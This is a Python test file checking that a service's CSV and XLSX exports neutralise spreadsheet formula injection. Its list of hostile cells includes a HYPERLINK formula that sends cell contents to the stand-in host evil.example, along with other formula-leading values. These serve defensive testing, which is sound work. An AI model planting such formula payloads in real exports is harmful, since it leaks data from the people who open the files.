"""Every spreadsheet or CSV the service writes goes through ``platform/spreadsheet.py``, which
neutralises cells that would run as formulas (a roster name ``=HYPERLINK(...)``, a phone
``+86...``, ``@SUM(...)``). Given the shipped source, no other module writes CSV or XLSX; and
what the helper writes, read back as a spreadsheet program would, holds no formula."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from openpyxl import load_workbook

from chalicelib.platform.spreadsheet import csv_bytes, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]
WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter|to_csv\(|to_excel\(")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+86 138 0000 0000", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "陈宏鑫"]


def test_no_module_but_the_shared_helper_writes_csv_or_xlsx():
    writers = [str(path.relative_to(ROOT)) for path in sorted((ROOT / "chalicelib").rglob("*.py"))
               if path.name != "spreadsheet.py" and WRITERS.search(path.read_text(encoding="utf-8"))]
    assert not writers, f"write exports with chalicelib.platform.spreadsheet, not by hand: {writers}"


def test_a_csv_export_has_no_cell_a_spreadsheet_would_run():
    rows = list(csv.reader(io.StringIO(csv_bytes(["姓名"], [[v] for v in HOSTILE]).decode("utf-8-sig"))))
    cells = [r[0] for r in rows[1:]]
    assert all(not c.startswith(("=", "+", "-", "@", "\t")) for c in cells)
    assert [c.removeprefix("'") for c in cells] == HOSTILE  # nothing lost but the guard
    assert cells[-1] == "陈宏鑫"


def test_an_xlsx_export_holds_text_cells_only_never_formulas():
    book = load_workbook(io.BytesIO(xlsx_bytes(["姓名", "人数"], [[v, 3] for v in HOSTILE])))
    cells = [row for row in book.active.iter_rows(min_row=2)]
    assert [c[0].value for c in cells] == HOSTILE
    assert {c[0].data_type for c in cells} == {"s"} and {c[1].data_type for c in cells} == {"n"}
